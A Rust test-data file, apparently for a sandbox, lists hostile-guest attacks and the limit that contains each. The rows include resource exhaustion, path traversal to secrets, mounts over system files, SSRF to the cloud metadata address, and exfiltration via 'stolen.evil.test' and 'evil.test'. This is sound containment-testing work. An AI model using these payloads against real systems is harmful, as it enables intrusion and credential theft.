//! The attacks: what is tried, by which deed of the hostile guest, what contains it, and what must be seen then.
//! Plain data; carries nothing out. Each is contained by one thing, named in its row; what has no switch says why in
//! `limits.rs`.

use tonic::Code;

use super::model::{Act, Attack, Guest, Module, Sign};
use super::place::{SECRET, SECRET_ESCAPED, SECRET_IN_DIGITS};

use Act::{
    Blocks, Create, Crowd, Delete, Fetch, Flock, Freeze, Get, Later, List, Nothing, Publish, Race, Renew, Series,
    Snapshot,
};
use Code::{DeadlineExceeded, Internal, PermissionDenied, ResourceExhausted, Unavailable};
use Guest::{Does, Starts};
use Module::{Additions, Functions, Loop, Memories, Nested, Table};
use Sign::{Arrive, Copies, Fails, KeptIn, Logged, Short, Silent, Stores, Thaws, Unheard};

/// What a forged line begins with.
pub(super) const FORGED: &str = "2026-01-01T00:00:00Z ERROR";

const CRASHED: &str = "crashed while it worked";
const TOO_LONG: &str = "took longer than a call may take";
const CPU: &str = "used up its CPU time";
const MEMORY: &str = "wanted more memory";
const MOVED: &str = "moved more data";
const BAD: &str = "breaks the contract";
/// What is wrong with single entries of a list is taken away.
const SIFTED: &str = "an entry of the backend's list breaks the contract";

/// No attack at all.
pub(super) const PEACE: Attack =
    Attack { id: "peace", tried: "nothing", by: "", guest: Does("", ""), act: Nothing, sign: Short(0) };

/// One row an attack: id, what is tried, what contains it, the guest, what the client does, what must be seen.
macro_rules! attacks {
    ($($id:literal $tried:literal $by:literal $guest:expr => $act:expr, $sign:expr;)*) => {
        /// All of them.
        pub(super) const ALL: &[Attack] =
            &[$(Attack { id: $id, tried: $tried, by: $by, guest: $guest, act: $act, sign: $sign },)*];
    };
}

attacks! {
    "memory" "a gigabyte in one memory" "memory"
        Does("create", "allocate 1024") => Create, Fails(Unavailable, MEMORY);
    "together" "five calls that hold 28 MiB each" "memory-total"
        Does("create", "hold 28") => Crowd, Fails(Unavailable, "calls together want more memory");
    "memories" "two more modules with a memory of 24 MiB each" "memory"
        Starts(Memories(2, 384)) => Nothing, Logged("wanted more memory");
    "nested" "components three deep, each with a memory of 14 MiB" "memory"
        Starts(Nested(3, 224)) => Nothing, Logged("wanted more memory");
    "table" "a table of 200,000 elements" "table-elements"
        Starts(Table(200_000)) => Nothing, Logged("wanted larger tables");
    "recursion" "60,000 frames" "stack"
        Does("create", "recurse 60000") => Create, Fails(Unavailable, "recursed too deep");
    "loop" "an endless loop in a change" "cpu"
        Does("create", "loop") => Create, Fails(DeadlineExceeded, CPU);
    "loop-list" "an endless loop in a read" "cpu"
        Does("list", "loop") => List, Fails(DeadlineExceeded, CPU);
    "loop-delete" "an endless loop in a delete" "cpu"
        Does("delete", "loop") => Delete, Fails(DeadlineExceeded, CPU);
    "loop-start" "an endless loop while the instance is made" "cpu"
        Starts(Loop) => Nothing, Logged(CPU);
    "loop-describe" "an endless loop in describe" "cpu"
        Does("describe", "loop") => Nothing, Logged(CPU);
    "loop-probe" "an endless loop in probe" "cpu"
        Does("probe", "loop") => Nothing, Logged(CPU);
    "loop-due" "an endless loop when asked what is due" "cpu"
        Does("due", "loop") => Nothing, Logged("list-due failed");
    "loop-step" "an endless loop in a background step" "cpu"
        Does("step", "loop") => Nothing, Logged("background step failed");
    "loop-recover" "an endless loop in recovery" "cpu"
        Does("recover", "loop") => Nothing, Logged("recovery failed; trying again");
    "clock" "the clock, endlessly" "cpu"
        Does("create", "clock") => Create, Fails(DeadlineExceeded, CPU);
    "many-works" "50,000 works that are due" "contract"
        Does("due", "many-works") => Nothing, Logged("at most 1000 are allowed");
    "features" "50,000 features that nobody knows, in describe: each a line of the log" "contract"
        Does("describe", "many-features") => Nothing, Logged("features; at most 64 are allowed");
    "sleep" "an hour of sleep in a change" "change-time"
        Does("create", "sleep") => Create, Fails(DeadlineExceeded, TOO_LONG);
    "sleep-list" "an hour of sleep in a read" "read-time"
        Does("list", "sleep") => List, Fails(DeadlineExceeded, TOO_LONG);
    "sleep-describe" "an hour of sleep in describe" "load-time"
        Does("describe", "sleep") => Nothing, Logged(TOO_LONG);
    "sleep-probe" "an hour of sleep in probe" "probe-time"
        Does("probe", "sleep") => Nothing, Logged(TOO_LONG);
    "sleep-step" "an hour of sleep in a background step" "step-time"
        Does("step", "sleep") => Nothing, Logged("background step failed");
    "sleep-recover" "an hour of sleep in recovery" "recovery-time"
        Does("recover", "sleep") => Nothing, Logged("recovery failed; trying again");
    "timers" "timers that have run out, endlessly" "cpu"
        Does("create", "timers") => Create, Fails(DeadlineExceeded, CPU);
    "random" "random bytes, endlessly" "cpu"
        Does("create", "random 0") => Create, Fails(DeadlineExceeded, CPU);
    "random-bytes" "16 MiB of random bytes at once" "random-bytes"
        Does("create", "random 16777216") => Create, Fails(Unavailable, CRASHED);
    "eternity" "a timer that ends in centuries" "change-time"
        Does("create", "eternity") => Create, Fails(DeadlineExceeded, TOO_LONG);
    "host-calls" "look-ups in the state, endlessly" "cpu"
        Does("create", "host-calls") => Create, Fails(DeadlineExceeded, CPU);
    "range" "listings of the state, endlessly" "cpu"
        Does("create", "range") => Create, Fails(DeadlineExceeded, CPU);
    "range-full" "all of a full state, over and over" "crossing-total"
        Does("create", "range-full") => Create, Fails(Unavailable, MOVED);
    "cursors" "a listing that begins behind 11,500 keys, over and over" "cursors"
        Does("create", "cursors") => Create, Fails(ResourceExhausted, "kept in");
    "cross" "half a megabyte out of the state, endlessly" "crossing-total"
        Does("create", "cross") => Create, Fails(Unavailable, MOVED);
    "large-token" "an answer with a text of 10 MB" "crossing"
        Does("list", "long-token") => List, Fails(Internal, MOVED);
    "large-context" "an answer with a text of a megabyte" "contract"
        Does("create", "large-context") => Create, Fails(Unavailable, BAD);
    "endless-context" "an answer with a text of 100 MB" "memory"
        Does("create", "endless-context") => Create, Fails(Unavailable, MEMORY);
    "huge-list" "a list of two million volumes" "memory"
        Does("list", "huge-list") => List, Fails(Internal, MEMORY);
    "long-page" "one entry more than was asked for" "contract"
        Does("list", "long-page") => List, Fails(Internal, BAD);
    "same-id" "a volume twice in a list" "contract"
        Does("list", "same-id") => List, Logged(SIFTED);
    "no-ids" "a list of volumes without ids" "contract"
        Does("list", "no-ids") => List, Logged(SIFTED);
    "no-id" "a volume without an id" "contract"
        Does("create", "no-id") => Create, Fails(Unavailable, BAD);
    "long-id" "an id of 4 KiB" "contract"
        Does("create", "long-id") => Create, Fails(Unavailable, BAD);
    "control-id" "an id with line breaks and escapes" "contract"
        Does("create", "control-id") => Create, Fails(Unavailable, BAD);
    "small" "a volume smaller than asked for" "contract"
        Does("create", "small") => Create, Fails(Unavailable, BAD);
    "twice" "a map with a key twice" "conversion"
        Does("create", "twice") => Create, Fails(Unavailable, BAD);
    "other-source" "a snapshot of another volume than asked for" "contract"
        Does("snapshot", "other-source") => Snapshot, Fails(Unavailable, BAD);
    "other-volume" "another volume than the one asked about" "contract"
        Does("get", "other-volume") => Get, Fails(Internal, BAD);
    "blocks-order" "blocks of a snapshot in wrong order" "contract"
        Does("blocks", "wrong-order") => Blocks, Fails(Internal, BAD);
    "blocks-overlap" "blocks of a snapshot that overlap" "contract"
        Does("blocks", "overlap") => Blocks, Fails(Internal, BAD);
    "blocks-beyond" "blocks beyond a snapshot's end" "contract"
        Does("blocks", "beyond") => Blocks, Fails(Internal, BAD);
    "blocks-endless" "the same blocks of a snapshot, endlessly" "contract"
        Does("blocks", "standing") => Blocks, Fails(Internal, BAD);
    "trap" "a crash in a change" "instance"
        Does("create", "trap") => Create, Fails(Unavailable, CRASHED);
    "trap-list" "a crash in a read" "instance"
        Does("list", "trap") => List, Fails(Internal, CRASHED);
    "trap-delete" "a crash in a delete" "instance"
        Does("delete", "trap") => Delete, Fails(Unavailable, CRASHED);
    "trap-describe" "a crash in describe" "instance"
        Does("describe", "trap") => Nothing, Logged("describe: the backend crashed");
    "trap-probe" "a crash in probe" "instance"
        Does("probe", "trap") => Nothing, Logged("to=Unhealthy");
    "trap-step" "a crash in a background step" "instance"
        Does("step", "trap") => Nothing, Logged("background step failed");
    "trap-recover" "a crash in recovery" "instance"
        Does("recover", "trap") => Nothing, Logged("recovery failed; trying again");
    "exit" "the end of the process" "instance"
        Does("create", "exit") => Create, Fails(Unavailable, "ended itself");
    "series" "one crash after the other" "failures"
        Does("create", "trap") => Series, Fails(Unavailable, "call after call");
    "flock" "more calls that hang than are allowed" "calls"
        Does("create", "sleep") => Flock, Fails(Unavailable, "too many calls");
    "open-files" "48 files open at once" "open-files"
        Does("create", "files 48") => Create, Fails(PermissionDenied, "kept in");
    "streams" "2,000 streams of a directory's names at once" "handles"
        Does("create", "streams 2000") => Create, Fails(Unavailable, "held more handles");
    "fifo" "a read of a FIFO that nobody writes to" "kinds"
        Does("create", "read /data/fifo") => Create, Fails(PermissionDenied, "kept in");
    "fifo-write" "a write to a FIFO that nobody reads" "kinds"
        Does("create", "write /data/fifo") => Create, Fails(PermissionDenied, "kept in");
    "log" "2 MB of log lines" "log-rate"
        Does("create", "log 2000") => Create, Short(200_000);
    "stdout" "2 MB on stdout" "log-rate"
        Does("create", "stdout 2000") => Create, Short(200_000);
    "blank" "20,000 log lines of a byte or none" "log-rate"
        Does("create", "blank 10000") => Create, Short(200_000);
    "one-write" "3 MiB of lines on standard output, in one call of the host" "permit"
        Does("create", "one-write 3") => Create, Fails(Unavailable, CRASHED);
    "http-record" "5,000 refused HTTP requests, each to be written down" "log-rate"
        Does("create", "refused 5000") => Create, Short(200_000);
    "complain" "1,000 background steps that fail, each with a megabyte of words" "log-rate"
        Does("step", "complain") => Later, Short(200_000);
    "far-file" "a file made larger than the system allows" "file-size"
        Does("create", "far-file 1024") => Create, KeptIn;
    "forge" "a forged log line and terminal escapes" "lines"
        Does("create", "forge") => Create, Silent(FORGED);
    "secrets" "the call's secrets on every channel" "masking"
        Does("create", "secrets") => Create, Silent(SECRET);
    "secrets-coded" "the call's secrets in hexadecimal digits" "masking"
        Does("create", "secrets-coded") => Create, Silent(SECRET_IN_DIGITS);
    "secrets-escaped" "the call's secrets as texts in JSON, each letter escaped" "masking"
        Does("create", "secrets-escaped") => Create, Silent(SECRET_ESCAPED);
    "secrets-answer" "the call's secrets in its answer" "masking"
        Does("create", "secrets-answer") => Create, Fails(Unavailable, "holds a secret of the request");
    "state" "6 MiB of state" "state"
        Does("create", "fill 6") => Create, Stores(1, 3 << 20);
    "state-waiting" "five calls that commit 1.5 MiB at once" "state-waiting"
        Does("create", "burst") => Crowd, Fails(Unavailable, "would wait for the disk");
    "large-key" "a key of a megabyte" "state-keys"
        Does("create", "large-key") => Create, Stores(b'k', 500_000);
    "secrets-trap" "the call's secrets in the words of a crash" "masking"
        Does("create", "secrets-trap") => Create, Silent(SECRET);
    "handles" "100,000 open files" "handles"
        Does("create", "handles files") => Create, Fails(Unavailable, "more handles");
    "handles-directories" "100,000 open directories" "handles"
        Does("create", "handles directories") => Create, Fails(Unavailable, "more handles");
    "handles-timers" "100,000 timers" "handles"
        Does("create", "handles timers") => Create, Fails(Unavailable, "more handles");
    "handles-headers" "100,000 sets of headers" "handles"
        Does("create", "handles headers") => Create, Fails(Unavailable, "more handles");
    "handles-polled" "one timer, named 20,000 times in a list of what is waited for" "handles"
        Does("create", "polls 20000") => Create, Fails(Unavailable, "more handles");
    "handles-buckets" "100,000 buckets of the state" "handles"
        Does("create", "handles buckets") => Create, Fails(Unavailable, "more handles");
    "jobs" "a job of the host after the other, none waited for" "jobs"
        Does("create", "jobs 12") => Create, Copies(4);
    "job-words" "200 jobs that fail and are remembered, each with a word of 3 MiB" "words"
        Does("create", "job-words 200") => Create, Fails(PermissionDenied, "kept in");
    "dots" "a path out of the grant" "grants"
        Does("create", "read /data/../secret") => Create, KeptIn;
    "absolute" "an absolute path of the host" "grants"
        Does("create", "read {place}/secret") => Create, KeptIn;
    "write-outside" "a file beside the grant" "grants"
        Does("create", "write /data/../taken") => Create, KeptIn;
    "rename-outside" "a file moved out of the grant" "grants"
        Does("create", "rename /data/../taken") => Create, KeptIn;
    "tricks" "paths out of the grant in two dozen spellings, through links, chains and renames" "grants"
        Does("create", "tricks") => Create, KeptIn;
    "hard-link" "a hard link to a file beside the grant" "grants"
        Does("create", "hard-link /data/../secret") => Create, KeptIn;
    "link" "a link that leads out of the grant" "grants"
        Does("create", "read /data/trap") => Create, KeptIn;
    "race" "a directory that becomes a link while it is looked through" "grants"
        Does("create", "race") => Race, KeptIn;
    "mount-elsewhere" "a mount at a path that is not of the call" "mounts"
        Does("publish", "mount-at {place}/elsewhere") => Publish, KeptIn;
    "mount-dots" "a mount at a path of the call and up from there" "mounts"
        Does("publish", "mount-at {place}/pods/target/../../elsewhere") => Publish, KeptIn;
    "mount-system" "a mount over the system's files" "mounts"
        Does("publish", "mount-at /etc/ssl") => Publish, KeptIn;
    "mount-absolute" "a directory outside of the grant, mounted" "grants"
        Does("publish", "mount-from {place}/beside") => Publish, KeptIn;
    "mount-up" "a directory above the grant, mounted" "links"
        Does("publish", "mount-from /data/../beside") => Publish, KeptIn;
    "mount-link" "a link out of the grant, mounted" "links"
        Does("publish", "mount-from /data/way") => Publish, KeptIn;
    "device-outside" "a loop device on a file outside of the grant" "grants"
        Does("publish", "device {place}/outside.img") => Publish, KeptIn;
    "device-link" "a loop device on a link out of the grant" "links"
        Does("publish", "device /data/image-link") => Publish, KeptIn;
    "device-system" "a loop device on a device of the system" "mounts"
        Does("publish", "device /dev/null") => Publish, KeptIn;
    "device-invented" "a loop device for a volume that nobody named" "mounts"
        Does("publish", "device-for invented /data/image") => Publish, KeptIn;
    "devices" "a loop device more than allowed, for a raw volume that is shown for reading" "node-devices"
        Does("publish", "devices /data/image") => Publish, KeptIn;
    "renew" "new UUIDs for 72 large images at once" "shares"
        Does("publish", "renew /data/huge") => Renew, KeptIn;
    "share" "an export of a server that nobody granted, mounted" "mounts"
        Does("publish", "share 127.0.0.1 /") => Publish, KeptIn;
    "unmount-other" "the end of another backend's mount" "mounts"
        Does("publish", "unmount-of id-good {place}/pods/neighbours") => Publish, KeptIn;
    "freeze" "a file system frozen and never thawed" "thaw"
        Does("publish", "freeze") => Freeze, Thaws;
    "connect" "a connection to the metadata address" "sockets"
        Does("create", "connect 169.254.169.254:80") => Fetch, Unheard;
    "connect-self" "a connection to this machine" "sockets"
        Does("create", "connect 127.0.0.1:22") => Fetch, Unheard;
    "datagram" "a datagram" "sockets"
        Does("create", "send 10.6.6.6:9") => Fetch, Unheard;
    "resolve" "a name that carries data" "sockets"
        Does("create", "resolve stolen.evil.test") => Fetch, Unheard;
    "listen" "a port of its own" "sockets+landlock"
        Does("create", "listen 0.0.0.0:9090") => Fetch, Unheard;
    "http-host" "a request to another host" "network"
        Does("create", "fetch GET http://evil.test/") => Fetch, Unheard;
    "http-name" "a name that carries data, in a request" "network"
        Does("create", "fetch GET http://stolen.evil.test/") => Fetch, Unheard;
    "http-port" "a request to another port" "network"
        Does("create", "fetch GET http://array.test:8080/") => Fetch, Unheard;
    "http-metadata" "a request to the metadata address" "network"
        Does("create", "fetch GET http://169.254.169.254/latest") => Fetch, Unheard;
    "http-self" "a request to this machine" "network"
        Does("create", "fetch GET http://127.0.0.1/") => Fetch, Unheard;
    "http-redirect" "a redirect to the metadata address, followed" "network"
        Does("create", "follow GET http://array.test/redirect") => Fetch, Unheard;
    "http-rebind" "a name that means another address the second time" "network"
        Does("create", "again GET http://rebind.test/close") => Fetch, Unheard;
    "http-private" "a granted name with a private address" "network"
        Does("create", "fetch GET http://v4-10-6-6-6.pub.test/") => Fetch, Unheard;
    "http-mapped" "a granted name with an address of IPv4 in one of IPv6" "network"
        Does("create", "fetch GET http://v6---ffff-a06-606.pub.test/") => Fetch, Unheard;
    "http-nat64" "a granted name with the metadata address behind a translator" "network"
        Does("create", "fetch GET http://v6-64-ff9b--a9fe-a9fe.pub.test/") => Fetch, Unheard;
    "http-flood" "a hundred requests, one after the other" "http-requests"
        Does("create", "flood 100 GET http://array.test/") => Fetch, Arrive(16);
    "http-number" "an address written as a number" "form"
        Does("create", "fetch GET http://2130706433/") => Fetch, Unheard;
    "http-spellings" "this machine's address and a granted name in 22 spellings" "network"
        Does("create", "spellings") => Fetch, Unheard;
    "http-smuggle" "a request in the body of another one, behind the end that its head tells" "form"
        Does("create", "smuggle") => Fetch, Arrive(3);
    "http-user" "a granted name before another host" "form"
        Does("create", "fetch GET http://array.test@evil.test/") => Fetch, Unheard;
    "http-absolute" "a path that names another host" "form"
        Does("create", "fetch GET http://array.test/ path=http://evil.test/") => Fetch, Unheard;
    "http-slashes" "a path that begins like another host" "form"
        Does("create", "fetch GET http://array.test/ path=//evil.test/") => Fetch, Unheard;
    "http-connect" "a tunnel" "form"
        Does("create", "fetch CONNECT http://array.test/ path=evil.test:80") => Fetch, Unheard;
    "http-header" "a header that names another host" "form"
        Does("create", "fetch GET http://array.test/ host:evil.test") => Fetch, Unheard;
    "compile" "a function that takes a gigabyte to compile" "compile-memory"
        Starts(Additions(600_000)) => Nothing, Logged("MiB of memory (compile-memory)");
    "compile-time" "functions that take minutes to compile" "compile-time"
        Starts(Functions(400)) => Nothing, Logged("compile-time");
}
